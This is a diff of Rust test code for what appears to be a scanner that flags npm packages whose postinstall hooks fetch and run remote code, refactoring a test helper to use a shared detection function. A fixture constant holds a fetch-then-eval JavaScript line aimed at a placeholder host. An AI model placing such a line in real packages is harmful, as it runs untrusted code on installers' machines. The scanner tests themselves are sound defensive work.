@@ -1,8 +1,7 @@
 use super::{is_like, is_path_like, lines_of_rules};
-use crate::flow::analyse;
-use crate::package::Package;
-use crate::unpack::{Tree, text_file as file};
-use customs_model::{SinkKind, SourceKind, Zone};
+use crate::flow::testing::remote_code;
+use crate::unpack::text_file as file;
+use customs_model::Zone;
 
 const GO: &str = "fetch('https://a.invalid/b').then(r => r.text()).then(eval);\n";
 
@@ -12,19 +11,10 @@ fn runs(hook: &str, more: &str, path: &str, code: &str) -> Option<Zone> {
         r#"{{"name": "a", "version": "1.0.0", "scripts": {{"postinstall": {}{more}}}}}"#,
         serde_json::Value::from(hook)
     );
-    let found = analyse(&Package::new(&Tree {
-        entries: vec![
-            file("package/package.json", &manifest),
-            file(&format!("package/{path}"), code),
-        ],
-        ..Tree::default()
-    }));
-    found
-        .flows
-        .iter()
-        .filter(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::DynamicCode)
-        .map(|flow| flow.zone)
-        .max()
+    remote_code(vec![
+        file("package/package.json", &manifest),
+        file(&format!("package/{path}"), code),
+    ])
 }
 
 #[test]
